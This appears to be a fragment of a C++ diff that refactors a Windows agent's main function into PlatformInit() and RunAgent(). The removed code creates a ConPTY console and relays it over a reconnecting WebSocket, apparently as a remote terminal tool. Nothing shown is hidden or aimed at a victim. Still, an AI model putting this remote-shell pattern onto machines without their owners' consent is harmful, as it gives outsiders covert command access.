-    printf("Device ID: %s\n", deviceId.c_str());
-    printf("Device Name: %s\n", deviceName.c_str());
-    printf("==============================\n\n");
-
-    if (!CreateConPTY()) {
-        printf("Failed to create ConPTY. Exiting...\n");
-        return 1;
-    }
-
-    std::thread outputThread(ReadPTYOutput);
-
-    while (g_state.shouldReconnect && g_state.running) {
-        if (Config::MAX_RECONNECT_ATTEMPTS > 0 &&
-            g_state.reconnectAttempts >= Config::MAX_RECONNECT_ATTEMPTS) {
-            printf("Max reconnection attempts (%d) reached. Exiting...\n",
-                Config::MAX_RECONNECT_ATTEMPTS);
-            break;
-        }
-
-        if (g_state.reconnectAttempts > 0) {
-            int delay = GetReconnectDelay();
-            printf("\nReconnection attempt %d", g_state.reconnectAttempts + 1);
-            if (Config::MAX_RECONNECT_ATTEMPTS > 0) {
-                printf("/%d", Config::MAX_RECONNECT_ATTEMPTS);
-            }
-            printf(" (waiting %d ms)...\n", delay);
-            Sleep(delay);
-        }
-
-        g_state.reconnectAttempts++;
-
-        if (ConnectWebSocket(deviceId, deviceName)) {
-            printf("Connected! Starting WebSocket receive loop...\n");
-
-            std::thread keepAliveThread(KeepAliveThread);
-
-            WebSocketReceiveLoop();
-
-            printf("WebSocket disconnected. Cleaning up...\n");
-
-            if (keepAliveThread.joinable()) {
-                keepAliveThread.join();
-            }
-
-            Cleanup(false);
-        }
-        else {
-            printf("Failed to connect to WebSocket\n");
-            Cleanup(false);
-        }
-
-        if (!g_state.running) {
-            printf("Application shutting down...\n");
-            break;
-        }
-    }
-
-    printf("\n=== Shutting down ===\n");
-    Cleanup(true);
-
-    if (outputThread.joinable()) {
-        outputThread.join();
-    }
-
-    printf("Cleanup complete. Goodbye!\n");
-    return 0;
-}
\ No newline at end of file
+    PlatformInit();
+    return RunAgent();
+}